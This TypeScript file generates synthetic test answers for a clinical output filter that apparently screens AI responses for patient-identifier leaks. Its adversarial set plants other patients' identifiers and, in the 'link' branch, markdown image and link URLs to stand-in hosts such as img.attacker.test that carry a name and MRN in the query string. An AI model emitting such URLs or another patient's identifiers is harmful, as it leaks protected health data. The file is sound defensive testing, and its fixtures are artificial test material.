// SPDX-License-Identifier: Apache-2.0
/**
 * Scripted answers for the output filter's figures (bench/output) and integration test, built
 * from the Synthea patients (synthea-patients.ts) with a seeded generator, so every run asks
 * the same questions.
 *
 * - **same-patient**: a prompt carrying the request patient's clinical facts (problems,
 *   medications, results, immunizations — never their identifiers), and an answer that uses
 *   only that patient's own identifiers, written many ways (name orders, capitals, initials,
 *   titles, phone and SSN formats, street abbreviations, e-mail case) in summaries, letters,
 *   tables, lists, JSON and notes, sometimes with a link to an allowed host.
 * - **adversarial**: the same kinds of answers with another patient's identifiers echoed into
 *   them: names (in every style), MRNs, phones, street addresses, e-mail addresses, SSNs,
 *   licence and passport numbers, combinations, and images whose URL carries them.
 *
 * Each adversarial answer lists what it planted as probes, so the delivered text can be checked
 * for them independently of the filter (`plantedFound`).
 */
import type { KnownPhi } from '../../src/deid/types.js';
import { seededRandom } from '../../src/kernel/random.js';
import type { SyntheaNote, SyntheaPatient } from './synthea-patients.js';

export type ScenarioCategory = 'name' | 'mrn' | 'phone' | 'address' | 'email' | 'ssn' | 'licence' | 'mixed' | 'link' | 'note';

/** One identifier of another patient planted in an answer, and how to find it in delivered text. */
export interface Planted {
  readonly category: Exclude<ScenarioCategory, 'mixed' | 'link' | 'note'>;
  /** Lower-case forms searched for in the delivered text (see `plantedFound`). */
  readonly probes: readonly string[];
  readonly kind: 'word' | 'digits' | 'compact' | 'text';
}

export interface Scenario {
  readonly id: number;
  readonly set: 'same-patient' | 'adversarial' | 'same-patient-notes';
  readonly category: ScenarioCategory;
  /** The request's patient: its reference (the x-phigate-patient header) and its identifiers. */
  readonly patient: { readonly reference: string; readonly known: KnownPhi };
  readonly other?: SyntheaPatient;
  readonly stream: boolean;
  readonly prompt: string;
  readonly answer: string;
  readonly planted: readonly Planted[];
  /** A host the answer tries to load or link; it must not survive. */
  readonly exfilHost?: string;
  /** The other patient's birth date, when planted (dates are not counted as leaks by default). */
  readonly plantedBirthDate?: string;
}


type Rng = () => number;
const pick = <T>(rng: Rng, list: readonly T[]): T => list[Math.floor(rng() * list.length)] as T;

const digits = (s: string): string => s.replace(/\D/g, '');

function phoneFormats(phone: string): string[] {
  const d = digits(phone);
  const [a, b, c] = [d.slice(0, 3), d.slice(3, 6), d.slice(6)];
  return [`${a}-${b}-${c}`, `(${a}) ${b}-${c}`, `${a}.${b}.${c}`, `+1 ${a} ${b} ${c}`, `${a}${b}${c}`, `1-${a}-${b}-${c}`];
}

function ssnFormats(ssn: string): string[] {
  const d = digits(ssn);
  return [ssn, `${d.slice(0, 3)} ${d.slice(3, 5)} ${d.slice(5)}`, d];
}

function nameFormats(p: SyntheaPatient): string[] {
  return [
    `${p.given} ${p.family}`,
    `${p.family}, ${p.given}`,
    `${p.given} ${p.family}`.toUpperCase(),
    `${p.prefix} ${p.family}`,
    `${p.given[0]}. ${p.family}`,
    p.rawName,
    `${p.prefix} ${p.given} ${p.family}`,
  ];
}

function streetFormats(p: SyntheaPatient): string[] {
  const abbreviated = p.street.replace(/\bSuite\b/, 'Ste.').replace(/\bApt\b/, 'Apt.').replace(/\bUnit\b/, '#').replace(/\bBoulevard\b/, 'Blvd').replace(/\bTerrace\b/, 'Ter.');
  return [p.street, abbreviated, p.street.toUpperCase()];
}

function addressLine(rng: Rng, p: SyntheaPatient): string {
  const street = pick(rng, streetFormats(p));
  return pick(rng, [`${street}, ${p.city}`, `${street}, ${p.city}, ${p.state}${p.zip ? ` ${p.zip}` : ''}`, street]);
}

function mrnFormats(p: SyntheaPatient): string[] {
  return [p.mrn, p.mrn.toUpperCase()];
}

function emailFormats(p: SyntheaPatient): string[] {
  return [p.email, p.email.toLowerCase(), p.email.toUpperCase()];
}

function age(p: SyntheaPatient): number {
  const born = Number(p.birthDate.slice(0, 4));
  return Number.isFinite(born) && born > 1900 ? 2021 - born : 50;
}

function facts(p: SyntheaPatient) {
  return {
    condition: (rng: Rng) => pick(rng, p.conditions.length > 0 ? p.conditions : ['Hypertension']),
    medication: (rng: Rng) => pick(rng, p.medications.length > 0 ? p.medications : ['the current plan']),
    observation: (rng: Rng) => pick(rng, p.observations.length > 0 ? p.observations : [{ display: 'Body Weight', value: '80 kg', date: '2020-01-01' }]),
    immunization: (rng: Rng) => pick(rng, p.immunizations.length > 0 ? p.immunizations : ['Influenza, seasonal, injectable, preservative free']),
  };
}

/** The question the caller asks. */
export const question = 'Summarise the chart for the care team.';

/**
 * The context: the patient's clinical facts as a context step renders them into the system
 * message; no identifiers (the patient's come from the patient context).
 */
export function promptFor(p: SyntheaPatient): string {
  const lines = [
    'Patient context (minimum necessary):',
    `Problems: ${p.conditions.slice(0, 12).join('; ') || 'none recorded'}`,
    `Medications: ${p.medications.slice(0, 10).join('; ') || 'none recorded'}`,
    `Recent results: ${p.observations.slice(-12).map((o) => `${o.display} ${o.value} (${o.date})`).join('; ')}`,
    `Immunizations: ${p.immunizations.slice(0, 8).join('; ') || 'none recorded'}`,
  ];
  if (p.practitioner) lines.push(`Primary care: ${p.practitioner}`);
  return lines.join('\n');
}

interface Own {
  readonly category: Exclude<ScenarioCategory, 'link' | 'note'>;
  readonly text: string;
}

/** An answer about the request patient using only their own identifiers. */
function ownAnswer(rng: Rng, p: SyntheaPatient): Own {
  const f = facts(p);
  const name = pick(rng, nameFormats(p));
  const obs = f.observation(rng);
  const link = rng() < 0.25 ? ` Patient information: [${pick(rng, ['MedlinePlus', 'this guide', 'more'])}](https://medlineplus.gov/${pick(rng, ['diabetes', 'hypertension', 'asthma'])}.html).` : '';
  const pronoun = rng() < 0.5 ? 'The patient' : p.given;
  const templates: (() => Own)[] = [
    () => ({ category: 'name', text: `**${name}** is a ${age(p)}-year-old with ${f.condition(rng)}. Current medications: ${f.medication(rng)}. Latest ${obs.display}: ${obs.value} on ${obs.date}.${link}` }),
    () => ({ category: 'name', text: `Dear ${p.prefix} ${p.family},\n\nYour ${obs.display} result from ${obs.date} was ${obs.value}. ${pronoun} should continue ${f.medication(rng)} and return in three months.${link}\n\nKind regards,\nThe care team` }),
    () => ({ category: 'mrn', text: `${name} (MRN ${pick(rng, mrnFormats(p))}) was reviewed today. Problems include ${f.condition(rng)} and ${f.condition(rng)}.` }),
    () => ({ category: 'phone', text: `Please call ${name} at ${pick(rng, phoneFormats(p.phone))} to schedule follow-up for ${f.condition(rng)}. ${pronoun} received ${f.immunization(rng)}.` }),
    () => ({ category: 'address', text: `Home visit for ${name}: ${addressLine(rng, p)}. Bring supplies for ${f.condition(rng)}; last ${obs.display} was ${obs.value}.` }),
    () => ({ category: 'email', text: `A copy of the plan was sent to ${pick(rng, emailFormats(p))} for ${name}. Continue ${f.medication(rng)}.${link}` }),
    () => ({ category: 'ssn', text: `Identity confirmed for ${name}: SSN ${pick(rng, ssnFormats(p.ssn))}, DOB ${p.birthDate}. Coverage for ${f.condition(rng)} is active.` }),
    () => ({
      category: 'licence',
      text: `ID check for ${name}: driver's licence ${p.license ?? p.ssn}${p.passport ? `, passport ${p.passport}` : ''}. Cleared for ${f.immunization(rng)}.`,
    }),
    () => ({
      category: 'mixed',
      text: `| Field | Value |\n|---|---|\n| Patient | ${name} |\n| MRN | ${p.mrn} |\n| Phone | ${pick(rng, phoneFormats(p.phone))} |\n| Address | ${addressLine(rng, p)} |\n| Problem | ${f.condition(rng)} |\n`,
    }),
    () => ({
      category: 'mixed',
      text: JSON.stringify({ patient: name, mrn: p.mrn, phone: pick(rng, phoneFormats(p.phone)), email: p.email, problems: [f.condition(rng), f.condition(rng)], latest: `${obs.display} ${obs.value}` }),
    }),
    () => ({
      category: 'mixed',
      text: `### ${p.family}, ${p.given}\n\n- DOB: ${p.birthDate}\n- Address: ${addressLine(rng, p)}\n- Phone: ${pick(rng, phoneFormats(p.phone))}\n- E-mail: ${p.email}\n- Problems: ${f.condition(rng)}; ${f.condition(rng)}\n- Medications: ${f.medication(rng)}\n${p.practitioner ? `- PCP: ${p.practitioner}\n` : ''}`,
    }),
    () => ({ category: 'name', text: `${`${p.given} ${p.family}`.toUpperCase()} — ${f.condition(rng)}. ${p.family}'s ${obs.display} was ${obs.value}. ${p.practitioner ? `Follow up with ${p.practitioner}.` : 'Follow up in clinic.'}` }),
  ];
  return pick(rng, templates)();
}

/** Another patient's identifier written into an answer, with its probes. */
interface Echo {
  readonly category: ScenarioCategory;
  readonly text: string;
  readonly planted: Planted[];
  readonly exfilHost?: string;
  readonly birthDate?: string;
}

function nameProbe(o: SyntheaPatient): Planted {
  return { category: 'name', kind: 'word', probes: [o.family.toLowerCase()] };
}

function echo(rng: Rng, o: SyntheaPatient, category: Exclude<ScenarioCategory, 'note'>): Echo {
  const name = pick(rng, nameFormats(o));
  const mrn = { category: 'mrn' as const, kind: 'compact' as const, probes: [o.mrn.toLowerCase().split('-')[0] as string, (o.mrn.toLowerCase().split('-').at(-1) ?? o.mrn).toLowerCase()] };
  const phone = { category: 'phone' as const, kind: 'digits' as const, probes: [digits(o.phone).slice(3)] };
  const street = { category: 'address' as const, kind: 'text' as const, probes: [o.street.toLowerCase().split(' ').slice(0, 2).join(' ')] };
  const email = { category: 'email' as const, kind: 'text' as const, probes: [o.email.toLowerCase().split('@')[0] as string] };
  const ssn = { category: 'ssn' as const, kind: 'digits' as const, probes: [digits(o.ssn)] };
  const licence = { category: 'licence' as const, kind: 'compact' as const, probes: [(o.license ?? o.ssn).toLowerCase(), ...(o.passport ? [o.passport.toLowerCase()] : [])] };
  switch (category) {
    case 'name':
      return pick(rng, [
        () => ({ category, text: `Another patient, ${name}, had a similar course.`, planted: [nameProbe(o)] }),
        () => ({ category, text: `For comparison, ${name} received the same treatment last year.`, planted: [nameProbe(o)] }),
        () => ({ category, text: `${name} should not appear here.`, planted: [nameProbe(o)] }),
        () => ({ category, text: `Also seen today: ${o.given.toLowerCase()} ${o.family.toLowerCase()}, stable.`, planted: [nameProbe(o)] }),
        () => ({ category, text: `${o.given} ${o.family} was admitted; ${o.prefix} ${o.family}'s labs are pending and ${o.family} is stable.`, planted: [nameProbe(o)] }),
        () => ({ category, text: `${`${o.given} ${o.family}`.toUpperCase()} (DOB ${o.birthDate}) is on the same ward.`, planted: [nameProbe(o)], birthDate: o.birthDate }),
        () => ({ category, text: `Chart note copied from ${o.rawName}.`, planted: [nameProbe(o)] }),
        () => ({ category, text: `Patient: ${o.family}, ${o.given}`, planted: [nameProbe(o)] }),
      ])();
    case 'mrn':
      return pick(rng, [
        () => ({ category, text: `See also MRN ${pick(rng, mrnFormats(o))}.`, planted: [mrn] }),
        () => ({ category, text: `Record ${o.mrn.replace(/-/g, '').toUpperCase()} has the same result.`, planted: [mrn] }),
        () => ({ category, text: `Cross-reference: ${o.mrn}`, planted: [mrn] }),
      ])();
    case 'phone':
      return { category, text: pick(rng, [`Please also call ${pick(rng, phoneFormats(o.phone))} to reach the family.`, `Callback number: ${pick(rng, phoneFormats(o.phone))}.`, `tel ${pick(rng, phoneFormats(o.phone))}`]), planted: [phone] };
    case 'address':
      return { category, text: pick(rng, [`Home visit scheduled at ${addressLine(rng, o)}.`, `Mail the letter to ${pick(rng, streetFormats(o))}.`, `Lives at ${o.street.toLowerCase()}, ${o.city.toLowerCase()}.`]), planted: [street] };
    case 'email':
      return { category, text: pick(rng, [`Records were sent to ${pick(rng, emailFormats(o))}.`, `Contact: <${o.email}>`, `e-mail ${o.email.toLowerCase()} for results`]), planted: [email] };
    case 'ssn':
      return { category, text: pick(rng, [`SSN ${pick(rng, ssnFormats(o.ssn))} was found in the chart.`, `Social security number: ${pick(rng, ssnFormats(o.ssn))}`, `(${o.ssn})`]), planted: [ssn] };
    case 'licence':
      return {
        category,
        text: pick(rng, [`Driver's licence ${o.license ?? o.ssn} on file.`, `ID documents: ${o.license ?? o.ssn}${o.passport ? ` and passport ${o.passport}` : ''}.`]),
        planted: [licence],
      };
    case 'mixed':
      return pick(rng, [
        () => ({ category, text: `Note: this may also match ${name} (MRN ${o.mrn}), phone ${pick(rng, phoneFormats(o.phone))}.`, planted: [nameProbe(o), mrn, phone] }),
        () => ({ category, text: `\n| ${name} | ${pick(rng, phoneFormats(o.phone))} | ${o.street} |\n`, planted: [nameProbe(o), phone, street] }),
        () => ({ category, text: ` ${JSON.stringify({ other_patient: { name: `${o.given} ${o.family}`, mrn: o.mrn, ssn: o.ssn, email: o.email } })}`, planted: [nameProbe(o), mrn, ssn, email] }),
        () => ({ category, text: `\n\n- ${o.family}, ${o.given}; ${o.street}, ${o.city}; ${o.email}; ${pick(rng, ssnFormats(o.ssn))}\n`, planted: [nameProbe(o), street, email, ssn] }),
      ])();
    case 'link': {
      const host = pick(rng, ['collector.example', 'img.attacker.test', 'cdn.example.net']);
      const query = encodeURIComponent(`${o.given} ${o.family} ${o.mrn}`);
      return pick(rng, [
        () => ({ category, text: ` ![status](https://${host}/p.png?d=${query})`, planted: [nameProbe(o), mrn], exfilHost: host }),
        () => ({ category, text: ` [details](https://${host}/r?n=${query})`, planted: [nameProbe(o), mrn], exfilHost: host }),
        () => ({ category, text: ` <img src="https://${host}/t.gif?u=${query}">`, planted: [nameProbe(o), mrn], exfilHost: host }),
        () => ({ category, text: `\n\n![chart][r1]\n\n[r1]: https://${host}/c.png?x=${query}\n`, planted: [nameProbe(o), mrn], exfilHost: host }),
        () => ({ category, text: ` https://${host}/leak?who=${query}`, planted: [nameProbe(o), mrn], exfilHost: host }),
      ])();
    }
  }
}

/** The lower-case words, digits and compact forms of a patient's own context, to keep planted values unambiguous. */
function contextWords(p: SyntheaPatient, prompt: string): Set<string> {
  const text = [p.given, p.family, p.rawName, p.street, p.city, p.email, ...(p.known.names ?? []), ...(p.known.addresses ?? []), prompt].join(' ').toLowerCase();
  return new Set(text.split(/[^a-z0-9]+/).filter(Boolean).map((w) => w.replace(/\d+$/, '')));
}

function collides(p: SyntheaPatient, o: SyntheaPatient, words: ReadonlySet<string>): boolean {
  return words.has(o.family.toLowerCase()) || words.has(o.given.toLowerCase()) || words.has(o.street.toLowerCase().split(' ')[1] ?? '') || digits(o.phone) === digits(p.phone);
}

const adversarialCategories: readonly Exclude<ScenarioCategory, 'note'>[] = ['name', 'name', 'mrn', 'phone', 'address', 'email', 'ssn', 'licence', 'mixed', 'link'];

/** Builds `perSet` same-patient and `perSet` adversarial scenarios, alternately plain and streamed. */
export function buildScenarios(patients: readonly SyntheaPatient[], perSet: number, seed = 7): Scenario[] {
  const rng = seededRandom(seed);
  const out: Scenario[] = [];
  let id = 0;
  for (let i = 0; i < perSet; i++) {
    const patient = patients[i % patients.length] as SyntheaPatient;
    const own = ownAnswer(rng, patient);
    out.push({ id: id++, set: 'same-patient', category: own.category, patient, stream: i % 2 === 1, prompt: promptFor(patient), answer: own.text, planted: [] });
  }
  for (let i = 0; i < perSet; i++) {
    const patient = patients[i % patients.length] as SyntheaPatient;
    const prompt = promptFor(patient);
    const words = contextWords(patient, prompt);
    const others = patients.filter((o) => o !== patient && !collides(patient, o, words));
    const other = others[Math.floor(i / patients.length) % others.length] as SyntheaPatient;
    const category = adversarialCategories[i % adversarialCategories.length] as Exclude<ScenarioCategory, 'note'>;
    const base = ownAnswer(rng, patient).text;
    const planted = echo(rng, other, category);
    // the echo goes at the end, at the start, or between two sentences
    const where = rng();
    const cut = base.indexOf('. ');
    const answer = where < 0.4 || cut < 0 ? `${base} ${planted.text}` : where < 0.7 ? `${planted.text} ${base}` : `${base.slice(0, cut + 2)}${planted.text} ${base.slice(cut + 2)}`;
    out.push({
      id: id++,
      set: 'adversarial',
      category: planted.category,
      patient,
      other,
      // each category gets plain and streamed answers alike
      stream: Math.floor(i / adversarialCategories.length) % 2 === 1,
      prompt,
      answer,
      planted: planted.planted,
      ...(planted.exfilHost === undefined ? {} : { exfilHost: planted.exfilHost }),
      ...(planted.birthDate === undefined ? {} : { plantedBirthDate: planted.birthDate }),
    });
  }
  return out;
}

/**
 * Same-patient answers written by someone else: each Synthea encounter note as the answer for
 * its own patient (their name, age, history, plan), asked with nothing but the question.
 */
export function noteScenarios(notes: readonly SyntheaNote[], firstId: number): Scenario[] {
  return notes.map((note, i) => ({
    id: firstId + i,
    set: 'same-patient-notes' as const,
    category: 'note' as const,
    patient: note.patient,
    stream: i % 2 === 1,
    prompt: 'Patient context: see the chart.',
    answer: note.text,
    planted: [],
  }));
}

/**
 * The planted identifiers still readable in delivered text — checked without the filter's code:
 * a surname as a whole word, digits with separators removed, codes with separators removed,
 * street and e-mail text as written (all case-insensitive).
 */
export function plantedFound(delivered: string, planted: readonly Planted[]): Planted[] {
  const lower = delivered.toLowerCase();
  const words = new Set(lower.split(/[^a-z0-9]+/).map((w) => w.replace(/\d+$/, '')));
  const joinedDigits = lower.replace(/(?<=\d)[\s().+-]+(?=\d)/g, '');
  const compact = lower.replace(/[^a-z0-9]/g, '');
  const spaced = lower.replace(/\s+/g, ' ');
  return planted.filter((p) =>
    p.probes.some((probe) => {
      switch (p.kind) {
        case 'word':
          return words.has(probe);
        case 'digits':
          return joinedDigits.includes(probe);
        case 'compact':
          return compact.includes(probe.replace(/[^a-z0-9]/g, ''));
        case 'text':
          return spaced.includes(probe);
      }
    }),
  );
}
